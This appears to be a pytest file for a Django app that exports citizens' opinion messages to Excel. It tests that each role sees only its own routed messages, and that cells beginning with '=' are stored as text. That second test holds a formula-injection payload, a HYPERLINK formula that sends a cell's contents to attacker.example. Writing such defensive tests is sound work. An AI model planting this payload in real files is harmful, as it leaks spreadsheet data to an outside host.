"""The message list export per role: exactly a plain loop over the messages the role may see (a unit: those
routed to it), with the page's filters; routing date and deadline cells worked out by hand."""

from __future__ import annotations

import io
from datetime import timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from lvzhi.opinions import actions as op
from lvzhi.opinions.access import visible_messages
from lvzhi.opinions.exports import MESSAGE_HEADERS

pytestmark = pytest.mark.django_db


def _rows(client, **params):
    response = client.get(reverse("opinions-xlsx"), {"tab": "messages", **params})
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))["群众意见"]
    return [dict(zip(MESSAGE_HEADERS, r, strict=True)) for r in list(ws.iter_rows(values_only=True))[1:]]


def test_each_role_exports_what_it_may_see(world, login):
    staff = world.user("staff")
    lamp = op.register_message(staff, world.council, channel="letter", title="路灯不亮", body="某路段路灯不亮。",
                               place="蓬江区")
    bus = op.register_message(staff, world.council, channel="visit", title="公交太少", body="夜间公交太少。",
                              place="江海区")
    op.register_message(staff, world.council, channel="letter", title="噪音扰民", body="工地夜间施工。")
    due = timezone.localdate() + timedelta(days=10)
    op.route_message(staff, lamp.pk, unit=world.units[0], category="城乡建设", deadline=due)
    op.route_message(staff, bus.pk, unit=world.units[1], category="交通运输")
    for name in ("staff", "clerk0", "clerk1", "clerk2", "member0"):
        got = sorted(r["标题"] for r in _rows(login(name)))
        assert got == sorted(m.title for m in visible_messages(world.user(name))), name
    assert sorted(r["标题"] for r in _rows(login("staff"))) == ["公交太少", "噪音扰民", "路灯不亮"]
    clerk = _rows(login("clerk0"))
    assert [r["标题"] for r in clerk] == ["路灯不亮"]  # not the other unit's, not the unrouted one
    row = clerk[0]
    assert (row["渠道"], row["分类"], row["地点"], row["承办单位"]) == ("来信", "城乡建设", "蓬江区", "市发展和改革局")
    assert row["办理期限"].date() == due and row["转办时间"].date() == timezone.localdate()
    assert [r["标题"] for r in _rows(login("clerk2"))] == []
    # the page's filter applies
    assert [r["标题"] for r in _rows(login("staff"), q="公交")] == ["公交太少"]


def test_a_title_that_looks_like_a_formula_stays_text(world, login):
    """A citizen's text starting with ``=`` is written as text: Excel must not run it when the file is opened."""
    staff = world.user("staff")
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
    op.register_message(staff, world.council, channel="letter", title=formula, body="=1+1")
    response = login("staff").get(reverse("opinions-xlsx"), {"tab": "messages"})
    ws = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))["群众意见"]
    title = next(c for c in ws[2] if c.value == formula)
    assert title.data_type == "s"  # a string cell, not a formula ("f")
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
